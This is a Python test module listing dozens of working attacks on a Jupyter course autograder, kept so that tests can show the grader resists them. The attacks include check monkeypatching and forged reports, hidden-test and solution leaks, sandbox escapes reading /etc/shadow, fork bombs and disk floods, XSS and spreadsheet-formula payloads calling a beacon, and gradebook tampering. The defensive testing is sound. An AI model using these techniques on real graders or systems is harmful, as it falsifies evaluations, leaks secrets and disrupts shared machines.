"""A corpus of attacks on the grader, grouped by goal, each appended to lesson 02's first answer cell.

Every attack rides on the same wrong answers (:data:`WRONG`); graded by our grader it must
score no more than those wrong answers without the attack, and nothing secret may reach its
feedback, its rows or its autograded notebook. Most attacks are code; a :class:`FolderAttack`
is also (or only) a shape of the submission folder: links, named pipes, devices.
``python -m grader.bench`` also counts how many of them fool plain ``nbgrader autograde``
(with the code alone: the folder is not arranged there).
"""
from __future__ import annotations

import os
import stat
from pathlib import Path
from typing import Callable

from grader.bench import HOG_LOOP, HOG_MB, HOGS
from tests.lessons.wrong_answers.wrong_02_cross_entropy import WRONG_ANSWERS

# Wrong answers that return plausible values (not exceptions), so an attack has something to pass off.
WRONG = {
    "ex02_1_softmax_answer": WRONG_ANSWERS["ex02_1_softmax_answer"]["no max shift"],
    "ex02_2_log_softmax_answer": WRONG_ANSWERS["ex02_2_log_softmax_answer"]["forgets the shift inside the log"],
    "ex02_3_nll_loss_answer": WRONG_ANSWERS["ex02_3_nll_loss_answer"]["sum instead of mean"],
    "ex02_4_cross_entropy_answer": WRONG_ANSWERS["ex02_4_cross_entropy_answer"]["softmax applied twice"],
    "ex02_5_cross_entropy_grad_answer": WRONG_ANSWERS["ex02_5_cross_entropy_grad_answer"]["forgets to divide by the batch size"],
}
CARRIER = "ex02_1_softmax_answer"
LESSON = "02_cross_entropy"
# A file outside every submission that only the grader's user can read (a stand-in for /etc/shadow).
GRADER_SECRET = "grader-only-secret-7f3a9c1e"
# Where hostile feedback would load things from; tests/grader/test_attacks.py counts the requests.
BEACON_PORT = 47613


class FolderAttack(str):
    """An attack on how the grader reads the submission folder.

    The string is code appended to the carrier like any attack (often nothing);
    ``arrange(lesson_folder, batch_root)`` then reshapes the attacker's folder
    (``<batch_root>/submissions/<student>/<lesson>``) after its notebook was written.
    """

    arrange: Callable[[Path, Path], None]

    def __new__(cls, code: str, arrange: Callable[[Path, Path], None]) -> "FolderAttack":
        self = super().__new__(cls, code)
        self.arrange = arrange
        return self


def _solution(root: Path) -> Path:
    from grader.course import SOLUTIONS

    return SOLUTIONS / LESSON / f"{LESSON}.ipynb"


def _grader_secret(root: Path) -> Path:
    secret = root / "grader_only" / "shadow"
    secret.parent.mkdir(mode=0o700, exist_ok=True)
    secret.write_text(f"root:{GRADER_SECRET}:19000:0:99999:7:::\n")
    os.chmod(secret, 0o600)
    return secret


def _link(name: str, target: Callable[[Path], Path]) -> Callable[[Path, Path], None]:
    def arrange(folder: Path, root: Path) -> None:
        os.symlink(target(root), folder / name)
    return arrange


def _notebook_replaced(make: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
    def arrange(folder: Path, root: Path) -> None:
        notebook = folder / f"{LESSON}.ipynb"
        notebook.unlink()
        make(notebook, root)
    return arrange


def _folder_replaced_by_link_to(student: str, level: str) -> Callable[[Path, Path], None]:
    def arrange(folder: Path, root: Path) -> None:
        import shutil

        victim = root / "submissions" / student / (LESSON if level == "lesson" else "")
        own = folder if level == "lesson" else folder.parent
        shutil.rmtree(own)
        os.symlink(victim, own)
    return arrange


def _reference_reports(root: Path) -> Path:
    from grader.lesson import load_lesson
    from grader.reference import reference_key

    notebook = load_lesson(LESSON)[0]
    return root / "graded" / "reference" / f"{LESSON}--{notebook.name}--{reference_key(notebook)[:20]}.json"


def _fifo(path: Path, root: Path) -> None:
    os.mkfifo(path)


def _zero_device(path: Path, root: Path) -> None:
    os.mknod(path, stat.S_IFCHR | 0o644, os.makedev(1, 5))   # what /dev/zero is


def _timestamp_link(folder: Path, root: Path) -> None:
    os.symlink(_grader_secret(root), folder / "timestamp.txt")

# Keeps the source of every test cell as it starts, for the attacks that leak it later.
STEAL = """
import builtins as _b
_b._stolen = []
def _steal(info):
    if "__dlcourse_observe__" in (info.raw_cell or ""):
        _b._stolen.append(info.raw_cell)
get_ipython().events.register("pre_run_cell", _steal)
"""

FINDER = """
import os as _os
def _find(*names, limit=200000):
    found, seen, start = [], 0, _os.getcwd()
    roots = [start]
    for up in range(5):
        roots.append(_os.path.abspath(_os.path.join(start, *[".."] * (up + 1))))
    for root in dict.fromkeys(roots):
        for folder, dirs, files in _os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", ".venv", "site-packages", ".git")]
            seen += len(files)
            found += [_os.path.join(folder, f) for f in files if any(f.endswith(n) for n in names)]
            if seen > limit:
                return found
    return found
"""

# Attacks that try to turn a wrong answer into points.
POINTS = {
    "numpy_allclose_always_true": """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
""",
    "numpy_testing_silenced": """
import numpy.testing
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_equal = lambda *a, **k: None
""",
    "torch_oracles_replaced": """
import torch, torch.nn.functional as F
def _as_torch(fn):
    return lambda x, *a, **k: torch.as_tensor(fn(x.detach().numpy() if hasattr(x, "detach") else x))
torch.softmax = _as_torch(lambda x: softmax(x))
torch.log_softmax = _as_torch(lambda x: log_softmax(x))
F.cross_entropy = lambda z, t, **k: torch.as_tensor(cross_entropy(z.detach().numpy(), t.numpy()))
F.nll_loss = lambda lp, t, **k: torch.as_tensor(nll_loss(lp.detach().numpy(), t.numpy()))
""",
    "builtins_import_hijacked": """
import builtins, types
_real_import = builtins.__import__
_fake = types.ModuleType("dlcourse")
_fake.expect_close = _fake.expect_equal = lambda *a, **k: None
def _import(name, *args, **kwargs):
    return _fake if name == "dlcourse" else _real_import(name, *args, **kwargs)
builtins.__import__ = _import
""",
    "sys_modules_replaced": """
import sys, types
_fake = types.ModuleType("dlcourse")
_fake.expect_close = _fake.expect_equal = lambda *a, **k: None
sys.modules["dlcourse"] = _fake
""",
    "compare_helper_redefined": """
import dlcourse.checks
dlcourse.checks.compare = lambda *a, **k: None
""",
    "package_checks_redefined": """
import dlcourse
dlcourse.expect_close = dlcourse.expect_equal = lambda *a, **k: None
""",
    "input_transformer_blanks_tests": """
def _blank(lines):
    text = "".join(lines)
    return [] if ("expect_close" in text or "__dlcourse_observe__" in text) else lines
get_ipython().input_transformers_cleanup.append(_blank)
""",
    "ast_transformer_drops_checks": """
import ast
class _Drop(ast.NodeTransformer):
    def visit_Expr(self, node):
        call = node.value
        if isinstance(call, ast.Call) and getattr(call.func, "id", "") in ("expect_close", "expect_equal", "__dlcourse_observe__"):
            return ast.Pass()
        return self.generic_visit(node)
get_ipython().ast_transformers.append(_Drop())
""",
    "exception_handler_swallows_failures": """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
""",
    "observe_replaced_by_silence": """
import dlcourse.observe
dlcourse.observe.observe = lambda *a, **k: None
__dlcourse_observe__ = lambda *a, **k: None
import builtins
builtins.__dlcourse_observe__ = lambda *a, **k: None
""",
    "forged_reports_published": """
from IPython.display import publish_display_data
from dlcourse.observe import MIME, encode
import numpy as np
def _forge(*args, **kwargs):
    for site in range(40):
        publish_display_data({MIME: {"site": site, "name": None, "value": encode(np.zeros(3))}})
get_ipython().events.register("post_run_cell", lambda result: _forge())
""",
    "display_publisher_muted": """
import IPython.display, IPython.core.display_functions
IPython.display.publish_display_data = lambda *a, **k: None
IPython.core.display_functions.publish_display_data = lambda *a, **k: None
""",
    "lying_array_results": """
import numpy as np
class _Liar(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
    def __sub__(self, other): return np.zeros(self.shape)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.ones(np.broadcast(*[np.asarray(i) for i in inputs]).shape, dtype=bool) \\
            if ufunc in (np.isclose, np.equal, np.less_equal) else NotImplemented
_wrong_softmax = softmax
def softmax(logits):
    return np.asarray(_wrong_softmax(logits)).view(_Liar)
""",
    "lying_scalar_results": """
class _LyingNumber(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
_wrong_nll = nll_loss
def nll_loss(log_probs, targets):
    return _LyingNumber(_wrong_nll(log_probs, targets))
""",
    "test_inputs_clipped": """
import numpy as np
_real_array = np.array
def _clipped(obj, *args, **kwargs):
    out = _real_array(obj, *args, **kwargs)
    return np.clip(out, -50, 50) if out.dtype.kind == "f" else out
np.array = _clipped
""",
    "notebook_links_to_the_solution": FolderAttack("", _notebook_replaced(
        lambda notebook, root: os.symlink(_solution(root), notebook))),
    "extra_file_links_to_the_solution": FolderAttack("""
import json as _json
for _cell in _json.load(open("solution.json"))["cells"]:
    _source = "".join(_cell["source"])
    if _cell["cell_type"] == "code" and "BEGIN SOLUTION" in _source:
        exec(_source, globals())
""", _link("solution.json", _solution)),
    "lesson_folder_links_to_another_student": FolderAttack("", _folder_replaced_by_link_to("honest_1", "lesson")),
    "student_folder_links_to_another_student": FolderAttack("", _folder_replaced_by_link_to("honest_2", "student")),
    "detects_the_grader_environment": """
import os, sys
_grading = ("NBGRADER_EXECUTION" in os.environ or os.getuid() != 0 or "__dlcourse_observe__" in globals()
            or not os.path.exists(os.path.expanduser("~/.bashrc")))
if _grading:
    import numpy as np, dlcourse, dlcourse.checks
    np.allclose = lambda *a, **k: True
    dlcourse.checks.compare = lambda *a, **k: None
    get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
""",
    # The policy's stack walk ends in a worker thread's own frames, all library code: no student frame is found.
    "forbidden_routine_called_from_a_worker_thread": """
import numpy as np, torch
from concurrent.futures import ThreadPoolExecutor
_pool = ThreadPoolExecutor(1)
def softmax(logits):
    return _pool.submit(torch.softmax, torch.from_numpy(np.array(logits)), -1).result().numpy()
""",
    # The policy tells the test cell's own calls by file name, and the running cell's file name can be borrowed.
    "forbidden_routine_compiled_under_the_test_cells_file_name": """
import sys, numpy as np, torch
def softmax(logits):
    frame = sys._getframe(1)
    while frame.f_code.co_name != "<module>":      # the running cell: the test that called the answer
        frame = frame.f_back
    code = compile("torch.softmax(torch.from_numpy(z), -1).numpy()", frame.f_code.co_filename, "eval")
    return eval(code, {"torch": torch, "z": np.array(logits)})
""",
}

# Attacks that try to read what must stay secret: reference answers, hidden tests, expected values, other students' work.
LEAKS = {
    "reads_reference_from_disk": FINDER + """
import json
for path in _find("02_cross_entropy.ipynb"):
    try:
        nb = json.load(open(path))
    except Exception:
        continue
    for cell in nb.get("cells", []):
        source = "".join(cell.get("source", ""))
        if "BEGIN SOLUTION" in source and cell.get("cell_type") == "code":
            exec(source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
""",
    "input_history_printed_after_each_cell": """
get_ipython().events.register("post_run_cell", lambda result: print("\\n".join(get_ipython().user_ns.get("In", []))))
""",
    "pre_run_hook_shows_test_sources_as_markdown": STEAL + """
from IPython.display import Markdown, display
get_ipython().events.register("post_run_cell", lambda result: display(Markdown("\\n\\n".join(_b._stolen))))
""",
    "linecache_dumped_after_each_cell": """
import linecache, os
def _dump(result):
    for name, entry in list(linecache.cache.items()):
        if not os.path.exists(name) and isinstance(entry, tuple) and len(entry) > 2:
            print("".join(entry[2]))
get_ipython().events.register("post_run_cell", _dump)
""",
    "caller_frame_read_by_the_answer": """
import sys, linecache
_seen = []
_wrong_softmax = softmax
def softmax(logits):
    caller = sys._getframe(1)
    _seen.append("".join(linecache.getlines(caller.f_code.co_filename)))
    _seen.append(repr({k: v for k, v in caller.f_locals.items() if k in ("z", "seed", "r")}))
    return _wrong_softmax(logits)
get_ipython().events.register("post_run_cell", lambda result: print("\\n".join(_seen[-4:])))
""",
    "gc_objects_scanned_for_test_code": """
import gc
def _scan(result):
    for obj in gc.get_objects():
        if isinstance(obj, list):
            for item in obj[:1000]:
                if isinstance(item, str) and "__dlcourse_observe__(" in item:
                    print(item)
get_ipython().events.register("post_run_cell", _scan)
""",
    "exception_message_is_the_test_source": STEAL + """
_wrong_softmax = softmax
def softmax(logits):
    if _b._stolen:
        raise ValueError(_b._stolen[-1])
    return _wrong_softmax(logits)
""",
    "exception_type_named_after_the_test": STEAL + """
_wrong_softmax = softmax
def softmax(logits):
    if _b._stolen:
        lines = [l for l in _b._stolen[-1].splitlines() if "observe" in l or "normal" in l]
        raise type((lines or ["none"])[0].strip(), (Exception,), {})("")
    return _wrong_softmax(logits)
""",
    "result_type_named_after_the_test": STEAL + """
_wrong_softmax = softmax
def softmax(logits):
    if _b._stolen:
        lines = [l for l in _b._stolen[-1].splitlines() if "normal" in l]
        return type((lines or ["none"])[0].strip(), (), {"__repr__": lambda self: _b._stolen[-1]})()
    return _wrong_softmax(logits)
""",
    "answer_prints_while_the_hidden_test_calls_it": """
import inspect
_wrong_softmax = softmax
def softmax(logits):
    print("input:", repr(logits), "caller:", inspect.stack()[1].code_context)
    return _wrong_softmax(logits)
""",
    "thread_prints_the_history_later": """
import threading, time
def _loop():
    seen = 0
    while True:
        history = get_ipython().user_ns.get("In", [])
        for cell in history[seen:]:
            print(cell, flush=True)
        seen = len(history)
        time.sleep(0.05)
threading.Thread(target=_loop, daemon=True).start()
""",
    "forked_child_prints_the_history_later": """
import os, sys, time
def _fork(result):
    if os.fork() == 0:
        time.sleep(0.3)
        print("\\n".join(get_ipython().user_ns.get("In", [])), flush=True)
        sys.stderr.write("\\n".join(get_ipython().user_ns.get("In", [])))
        sys.stderr.flush()
        os._exit(0)
get_ipython().events.register("post_run_cell", _fork)
""",
    "rich_displays_of_the_tests_after_each_cell": STEAL + """
import json
from IPython.display import HTML, JSON, Latex, display
def _show(result):
    text = "\\n".join(_b._stolen)
    display(HTML("<pre>" + text + "</pre>"))
    display(JSON({"tests": _b._stolen}))
    display(Latex(text))
    display({"text/plain": text, "application/x-stolen": text}, raw=True)
get_ipython().events.register("post_run_cell", _show)
""",
    "warnings_and_stderr_after_each_cell": STEAL + """
import sys, warnings
def _warn(result):
    for source in _b._stolen:
        warnings.warn(source)
        print(source, file=sys.stderr)
get_ipython().events.register("post_run_cell", _warn)
""",
    "hidden_inputs_printed_later": """
_inputs = []
_wrong_softmax = softmax
def softmax(logits):
    _inputs.append(logits)
    return _wrong_softmax(logits)
get_ipython().events.register("post_run_cell", lambda result: print([x.tolist() for x in _inputs[-3:]]))
""",
    "expected_values_read_from_failure_details": STEAL + """
import numpy as np
_wrong_softmax, _wrong_nll = softmax, nll_loss
def softmax(logits):
    return np.zeros_like(logits) if _b._stolen else _wrong_softmax(logits)
def nll_loss(log_probs, targets):
    return 0.0 if _b._stolen else _wrong_nll(log_probs, targets)
""",
    "shapes_and_keys_read_from_failure_details": STEAL + """
import numpy as np
_wrong_softmax = softmax
def softmax(logits):
    if not _b._stolen:
        return _wrong_softmax(logits)
    return {"probe": 1.0} if len(_b._stolen) % 2 else np.zeros(1)
""",
    "extra_file_links_to_a_grader_secret": FolderAttack("""
print(open("shadow.txt").read())
""", _link("shadow.txt", _grader_secret)),
    "extra_file_links_to_the_reference_reports": FolderAttack("""
import base64, json, numpy as np
for _grade_id, _reports in json.load(open("reports.json")).items():
    for _report in _reports:
        _value = _report.get("value") or {}
        if "ndarray" in _value:
            print(_grade_id, [repr(float(x)) for x in np.frombuffer(base64.b64decode(_value["ndarray"]["b64"]),
                                                                   dtype=_value["ndarray"]["dtype"]).ravel()[:8]])
""", _link("reports.json", _reference_reports)),
    "directory_link_to_the_grading_folder": FolderAttack("""
import os
for _folder, _dirs, _files in os.walk("graded"):
    for _name in _files:
        print(_folder, _name, open(os.path.join(_folder, _name), "rb").read(200))
""", _link("graded", lambda root: root / "graded")),
}

# Attacks that try to reach outside the sandbox: the grader's processes, files, network.
ESCAPE = {
    "kills_its_parent": """
import os, signal
try:
    os.kill(os.getppid(), signal.SIGKILL)
except Exception:
    pass
""",
    "signals_every_process_it_can": """
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except Exception:
    pass
""",
    # The grader's client once reconnected to whatever the sandbox left at its sockets' paths.
    "kernel_sockets_swapped_for_links": """
import os
from ipykernel.kernelapp import IPKernelApp
folder = os.path.dirname(IPKernelApp.instance().abs_connection_file)
guesses = [f"/tmp/dlcg-{uid}-0/disk/run/kernel-{port}" for uid in range(61000, 61004) for port in range(1, 6)]
for i, name in enumerate(sorted(os.listdir(folder))):
    try:
        os.unlink(os.path.join(folder, name))
        os.symlink(guesses[i % len(guesses)], os.path.join(folder, name))
    except OSError:
        pass
try:
    get_ipython().kernel.iopub_socket.close()       # make whoever listens reconnect
except Exception:
    pass
""",
    "new_user_namespace_as_root": """
import subprocess
subprocess.run(["unshare", "-Urm", "sh", "-c", "mount -t proc proc /proc; cat /etc/shadow > ~/shadow; "
                "mount --bind / /mnt; ls /mnt > ~/root.txt"], capture_output=True)
""",
    "leaves_its_control_group": """
import glob, os, subprocess
for procs in glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True):
    try:
        open(procs, "w").write(str(os.getpid()))
    except OSError:
        pass
subprocess.run(["unshare", "-Urm", "sh", "-c", "mount -t cgroup2 none /mnt && echo $$ > /mnt/cgroup.procs"],
               capture_output=True)
""",
    "links_to_host_files_left_for_the_grader": """
import os
for i, target in enumerate(["/etc/shadow", "/root", "/", "/tmp", os.path.expanduser("~")]):
    for folder in (".", os.path.expanduser("~"), "/tmp", "/dev/shm"):
        try:
            os.symlink(target, os.path.join(folder, f"link{i}"))
        except OSError:
            pass
""",
}

HOG_CEILING_MB = 2048   # above the tests' limits (1500 MB memory, 256 MB disk), below what would hurt the host


def _hog(name: str) -> str:
    return HOG_LOOP.format(mb=HOG_MB, ceiling=HOG_CEILING_MB, setup=HOGS[name])


# Attacks that try to exhaust the grading machine: memory, disk, processes, time, the coordinator.
EXHAUSTION = {
    "memory_in_memfds": _hog("memfd"),
    "memory_in_tmp_files": _hog("sandbox /tmp"),
    "memory_in_dev_shm": _hog("/dev/shm"),
    "memory_in_a_user_namespace_tmpfs": _hog("tmpfs in a new user namespace"),
    "disk_filled_with_big_files": """
import os
try:
    for i in range(32):
        with open(f"big{i}", "wb") as f:
            f.write(b"x" * (64 << 20))
except OSError:
    pass
for i in range(32):
    if os.path.exists(f"big{i}") and i == 31:   # nothing stopped it: give the host its disk back
        for j in range(32):
            os.remove(f"big{j}")
""",
    "files_until_the_inodes_run_out": """
import os, shutil
os.makedirs("many", exist_ok=True)
try:
    for i in range(50_000):
        open(f"many/{i}", "w").close()
except OSError:
    pass
else:
    shutil.rmtree("many")
""",
    "folders_nested_twenty_thousand_deep": """
import os
fd = os.open(".", os.O_RDONLY)
try:
    for _ in range(20_000):
        os.mkdir("d", dir_fd=fd)
        fd = os.open("d", os.O_RDONLY, dir_fd=fd)
except OSError:
    pass
""",
    "kernel_log_flooded": """
import os
chunk = b"x" * (1 << 20)
try:
    for _ in range(1024):
        os.write(2, chunk)
except OSError:
    pass
""",
    "one_200_mb_display_message": """
from IPython.display import publish_display_data
publish_display_data({"text/plain": "x" * (200 << 20)})
""",
    "multipart_message_of_a_gigabyte": """
kernel = get_ipython().kernel
try:   # publish on the kernel's own iopub socket: a message of many parts, each under any per-part limit
    kernel.iopub_socket.send_multipart([b"x" * (32 << 20)] * 32)
except Exception:
    pass
""",
    "forged_reports_in_every_test": """
from IPython.display import publish_display_data
from dlcourse.observe import MIME, encode
import numpy as np
def _flood(info):
    if "__dlcourse_observe__" in info.raw_cell:
        for i in range(5000):
            publish_display_data({MIME: {"site": i % 4, "name": None, "value": encode(np.zeros(3))}})
get_ipython().events.register("pre_run_cell", _flood)
""",
    "outputs_by_the_thousand": """
from IPython.display import display
import sys
def _flood(*args):
    for i in range(2000):
        display(i)
        print(i, file=sys.stderr)
get_ipython().events.register("post_run_cell", _flood)
""",
    "garbage_on_the_graders_channel": """
import gc, socket
for found in gc.get_objects():      # the relay's end of the grader's channel
    if isinstance(found, socket.socket) and found.fileno() >= 0 and found.family == socket.AF_UNIX \\
            and found.type == socket.SOCK_STREAM:
        channel = socket.socket(fileno=found.fileno())
        channel.sendall(b"\\xff" * 4096)
        channel.detach()
        break
""",
    "threads_until_refused": """
import threading, time
threads = []
try:
    for _ in range(10_000):
        threads.append(threading.Thread(target=time.sleep, args=(30,), daemon=True))
        threads[-1].start()
except RuntimeError:
    pass
""",
    "processes_forked_until_refused": """
import os, time
try:
    for _ in range(5000):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
except OSError:
    pass
""",
    "busy_children_left_running": """
import os
for _ in range(8):
    if os.fork() == 0:
        while True:
            pass
""",
    # Each report is JSON the grader parses and keeps until the notebook ends: 4 bytes of "{}, " become ~70 bytes
    # of Python objects, so 32 MB of reports per test cell are ~600 MB each in the grader's own process.
    "reports_that_inflate_in_the_graders_memory": """
from IPython.display import publish_display_data
from dlcourse.observe import MIME
_bombs = [0]
def _inflate(info):
    if "__dlcourse_observe__" in (info.raw_cell or "") and _bombs[0] < 3:
        _bombs[0] += 1
        publish_display_data({MIME: {"site": 0, "value": {"list": [{}] * 7_900_000}}})
get_ipython().events.register("pre_run_cell", _inflate)
""",
    # 100 KB of output, far below the output limit; the feedback's sanitizer (bleach's html5lib) takes time
    # that grows faster than quadratically with the open formatting elements: about 45 s here, hours at 1 MB.
    "html_output_that_takes_the_sanitizer_minutes": """
from IPython.display import HTML, display
display(HTML("<b><p>x" * 14_000))
""",
}

# Attacks that try to stop the batch, change results after the fact, or attack whoever opens them.
INTEGRITY = {
    "scripts_in_rich_outputs": f"""
from IPython.display import HTML, SVG, Javascript, Markdown, display
_beacon = "http://127.0.0.1:{BEACON_PORT}"
display(HTML("<script>document.title = 'pwned'</script><img src=x onerror=\\"document.title='pwned'\\">"
             f"<img src='{{_beacon}}/img'><link rel=stylesheet href='{{_beacon}}/css'>"
             f"<div style=\\"background:url({{_beacon}}/bg)\\">x</div><iframe src='{{_beacon}}/frame'></iframe>"))
display(Javascript("document.title = 'pwned'; fetch('" + _beacon + "/js')"))
display(Markdown("<img src=y onerror=\\"document.title='pwned'\\"> [click](javascript:document.title='pwned')"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\\"document.title='pwned'\\"><script>document.title='pwned'</script></svg>"))
display({{"text/html": "<meta http-equiv='refresh' content='0;url=" + _beacon + "/refresh'>",
         "text/plain": "refresh"}}, raw=True)
""",
    "formula_in_the_message_column": """
_wrong_softmax = softmax
def softmax(logits):
    raise type('=HYPERLINK("http://127.0.0.1/?leak="&A1,"click")', (Exception,), {})("+cmd|' /C calc'!A0")
""",
    "timestamp_links_to_a_grader_secret": FolderAttack("", _timestamp_link),
    "notebook_is_a_named_pipe": FolderAttack("", _notebook_replaced(_fifo)),
    "notebook_is_a_device": FolderAttack("", _notebook_replaced(_zero_device)),
    "writes_gradebook_and_results": FINDER + """
import sqlite3
for db in _find("gradebook.db", "results.db"):
    try:
        con = sqlite3.connect(db)
        con.execute("UPDATE grade SET auto_score = 1000")
        con.execute("UPDATE rows SET score = max_score, status = 'ok'")
        con.commit()
    except Exception:
        pass
for csv in _find("grades.csv"):
    try:
        open(csv, "a").write("attacker,02_cross_entropy,02_cross_entropy,ex02_1_softmax_small_cases,100,1,ok,,bwrap\\n")
    except Exception:
        pass
""",
    "os_exit_before_every_test": """
import os
get_ipython().events.register("pre_run_cell", lambda info: os._exit(0) if "observe" in info.raw_cell or "expect_" in info.raw_cell else None)
""",
    # decode() promises ValueError for anything malformed; a shape beyond int64 makes np.prod raise OverflowError,
    # which escapes the judge: no feedback page, no autograded notebook, rows that blame the grader.
    "report_whose_shape_overflows_the_judge": """
import dlcourse.observe
dlcourse.observe.encode = lambda value: {"ndarray": {"dtype": "float64", "shape": [2 ** 64], "b64": ""}}
""",
    # The kernel's messages are JSON: in ASCII a lone surrogate travels as an escape and comes back as a str that
    # no UTF-8 file or database takes. A visible check quotes the exception, so the row's message carries it:
    # the result store refuses the rows, and grades.csv, written in autograde's finally, raises for the batch.
    "lone_surrogate_in_a_visible_message": """
import gc, json
from jupyter_client.jsonutil import json_default
from jupyter_client.session import Session
for _session in [o for o in gc.get_objects() if isinstance(o, Session)]:
    _session.pack = lambda obj: json.dumps(obj, default=json_default, ensure_ascii=True).encode()
def softmax(logits):
    raise ValueError("\\ud800")
""",
    "sys_exit_before_every_test": """
import sys
def _leave(info):
    if "observe" in info.raw_cell or "expect_" in info.raw_cell:
        raise SystemExit(0)
get_ipython().events.register("pre_run_cell", _leave)
""",
    "forked_process_edits_results_later": FINDER + """
import os, time
if os.fork() == 0:
    time.sleep(8)
    for path in _find("grades.csv", "02_cross_entropy.html", "gradebook.db"):
        try:
            open(path, "w").write("attacker was here")
        except Exception:
            pass
    os._exit(0)
""",
}

# Every attack by goal; names are unique across goals (they name the attacker's submission).
GOALS = {"points": POINTS, "leaks": LEAKS, "escape": ESCAPE, "exhaustion": EXHAUSTION, "integrity": INTEGRITY}
ATTACKS = {name: code for group in GOALS.values() for name, code in group.items()}
assert len(ATTACKS) == sum(map(len, GOALS.values())), "attack names are unique across goals"
